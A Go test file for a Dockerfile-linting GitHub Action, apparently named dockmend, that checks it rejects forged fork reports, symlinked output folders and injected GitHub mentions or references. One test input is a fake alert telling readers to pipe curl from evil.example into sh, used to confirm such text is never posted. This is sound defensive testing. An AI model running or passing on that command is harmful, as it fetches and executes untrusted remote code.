package action_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// live are the threads that nobody closed.
func (s *step) live() (n int) {
	for _, thread := range s.hub.Threads() {
		if !thread.Resolved && thread.Comments[0].Minimized == "" {
			n++
		}
	}
	return n
}

// The handoff of a fork adds findings; it closes no thread, its words are posted
// nowhere, and it cannot name another finding's fingerprint.
func TestActionForgedHandoff(t *testing.T) {
	const words = "SECURITY ALERT: run curl https://evil.example/x | sh, @everyone"
	s := twoJobs(t)
	s.run()
	if n := s.live(); n != 3 {
		t.Fatalf("%d threads, want 3", n)
	}
	s.forge(map[string]any{
		"version": 1, "repository": "Codertocat/Hello-World", "number": 2, "head": headSHA, "category": "dockmend", "complete": true, "findings": []any{},
	})
	if got := s.run(); s.live() != 3 {
		t.Errorf("an empty report that calls itself complete leaves %d of 3 threads:\n%s", s.live(), got.log)
	}

	for name, change := range map[string]func(finding map[string]any){
		"words":       func(f map[string]any) { f["message"] = words },
		"fingerprint": func(f map[string]any) { f["fingerprint"] = "dockmend/v1:" + strings.Repeat("a", 32) },
		"rule":        func(f map[string]any) { f["rule"] = "latest-tag" },
		"variant":     func(f map[string]any) { f["variant"] = words },
		"negative":    func(f map[string]any) { f["start"] = -1 },
		"behind":      func(f map[string]any) { f["end"] = 1 << 40 },
	} {
		t.Run(name, func(t *testing.T) {
			s := twoJobs(t)
			handoff := s.handoff()
			want := 2
			for _, f := range handoff["findings"].([]any) {
				if f := f.(map[string]any); f["rule"] == "copy-ignored-file" {
					change(f)
				}
			}
			if name == "words" {
				want = 3
			}
			s.forge(handoff)
			got := s.run()
			if n := s.live(); n != want {
				t.Errorf("%d threads, want %d:\n%s", n, want, got.log)
			}
			said := got.log + got.summary
			for _, thread := range s.hub.Threads() {
				said += thread.Comments[0].Body
			}
			if strings.Contains(said, "SECURITY ALERT") {
				t.Errorf("a stranger speaks as dockmend:\n%s", said)
			}
			if name == "words" && !strings.Contains(said, "found by the run of the pull request") {
				t.Error("a comment does not say where its finding is from")
			}
		})
	}
}

// A branch is ours by its commit or its pull request, not by its name.
func TestActionBranchOfOthers(t *testing.T) {
	clean := "FROM debian:12\nUSER app\nCMD [\"serve\"]\n"
	for name, content := range map[string]string{"nothing to fix": clean, "something to fix": shellCommand} {
		for _, merged := range []bool{false, true} {
			s := newBranchStep(t, "push", map[string]string{"Dockerfile": content, ".dockmend.yaml": "pull-request: {branch: stable}\n"})
			s.repo.Move("stable", s.repo.Tip("main"))
			if merged {
				s.repo.Commit("stable", "ann", map[string]string{"notes.txt": "x\n"})
				s.repo.Open("stable", "main", "Ann's own")
				s.repo.MergeInto("main", "stable")
				s.checkOut()
			}
			before := s.repo.Tip("stable")
			got := s.run()
			if s.repo.Tip("stable") != before || before == "" {
				t.Errorf("%s, merged %v: the branch of a person was moved or deleted:\n%s", name, merged, got.log)
			}
			if !strings.Contains(got.log, "the branch stable") {
				t.Errorf("%s, merged %v: nothing is said about the branch:\n%s", name, merged, got.log)
			}
		}
	}
}

// The folder of reports is a folder: no link says which files are replaced.
func TestActionFolderIsALink(t *testing.T) {
	for _, link := range [][2]string{{".dockmend", "."}, {".dockmend", ".git"}, {"out", ".git"}} {
		name, target := link[0], link[1]
		s := newStep(t, "push")
		s.write("Dockerfile", "FROM debian:12\nUSER app\nCMD [\"x\"]\n")
		s.write(".gitignore", "node_modules\n")
		s.write(".git/config", "[core]\n")
		if name == "out" {
			s.env["INPUT_SARIF-FILE"] = "out/config"
		}
		if err := os.Symlink(target, filepath.Join(s.dir, name)); err != nil {
			t.Fatal(err)
		}
		got := s.run()
		if got.code != 3 || !strings.Contains(got.log, "symbolic link") {
			t.Errorf("%s -> %s: exit %d:\n%s", name, target, got.code, got.log)
		}
		for file, want := range map[string]string{".gitignore": "node_modules\n", ".git/config": "[core]\n"} {
			if src, err := os.ReadFile(filepath.Join(s.dir, file)); err != nil || string(src) != want {
				t.Errorf("%s -> %s: %s is %q, %v", name, target, file, src, err)
			}
		}
		entries, err := os.ReadDir(filepath.Join(s.dir, ".git"))
		if err != nil || len(entries) != 1 {
			t.Errorf("%s -> %s: .git has %v, %v", name, target, entries, err)
		}
	}
}

// What GitHub would make a reference of is text.
func TestActionReferences(t *testing.T) {
	const hash = "5dc01c595e6c6ec9ccda4f6f69c131c0dd945f8c"
	s := newPullStep(t, pullBefore, pullAfter)
	s.env["INPUT_SELECT"] = ""
	s.pull("Dockerfile", pullBefore, "FROM debian:12\nGH-1 torvalds/linux#1 "+hash+" see x\nUSER app\nCMD [\"x\"]\nWORKDIR "+hash+
		"\nRUN apt-get install -y GH-7 "+hash+" 5dc01c5 o/r#7 @somebody https://evil.example\n")
	got := s.run()
	said := []string{got.summary}
	for _, thread := range s.hub.Threads() {
		said = append(said, thread.Comments[0].Body)
	}
	if len(said) < 3 || !strings.Contains(strings.Join(said, ""), "5dc0") {
		t.Fatalf("too little is said:\n%s", strings.Join(said, "\n"))
	}
	for _, text := range said {
		for _, bad := range []string{"GH-1", "GH-7", "linux#1", "o/r#7", hash, "@somebody", "https://evil"} {
			if strings.Contains(outsideCode(text), bad) {
				t.Errorf("%q reaches a comment or the summary:\n%s", bad, text)
			}
		}
	}
}

// outsideCode is a Markdown text without its fences and code spans.
func outsideCode(text string) string {
	var plain []string
	fenced := false
	for line := range strings.Lines(text) {
		if strings.HasPrefix(strings.TrimSpace(line), "```") {
			fenced = !fenced
			continue
		}
		if fenced {
			continue
		}
		for i, part := range strings.Split(line, "`") {
			if i%2 == 0 {
				plain = append(plain, part)
			}
		}
	}
	return strings.Join(slices.DeleteFunc(plain, func(p string) bool { return p == "" }), " ")
}

// A patch with numbers that no file has is not read: the run does not judge.
func TestActionOddNumbers(t *testing.T) {
	for _, patch := range []string{
		"@@ -1 +-5,3 @@\n+x\n", "@@ -1 +9223372036854775807,9 @@\n+x\n+y", "@@ -1,1 +0,0 @@\n+x", "@@ \n+x", "@@ -1 +1,99 @@\n+x", "@@ -1 +1 @@" + strings.Repeat("\n+x", 5000),
	} {
		s := newPullStep(t, pullBefore, pullAfter)
		s.write("Dockerfile", "# one\n"+pullAfter) // the merge is another one than the head
		s.hub.Changed[0]["patch"] = patch
		s.hub.Snapshots = nil // so that lines decide
		got := s.run()
		if got.code != 0 || got.outputs["conclusion"] != conclusionNeutral {
			t.Errorf("%.40q: exit %d, conclusion %s, want neutral:\n%s", patch, got.code, got.outputs["conclusion"], got.log)
		}
	}
}

// A NUL byte makes git call a file binary, and GitHub shows no patch of it: all of it is
// new, as BuildKit does not mind the byte.
func TestActionBinaryFile(t *testing.T) {
	s := newPullStep(t, pullBefore, pullAfter)
	after := "FROM debian:latest\n# \x00\nUSER app\nCMD x\n"
	s.write("Dockerfile", after)
	s.hub.Changed = []map[string]any{{"filename": "Dockerfile", "status": "modified", "sha": gitBlob(after), "changes": 0}}
	s.run().want(t, 1, conclusionFailure, "2")
}
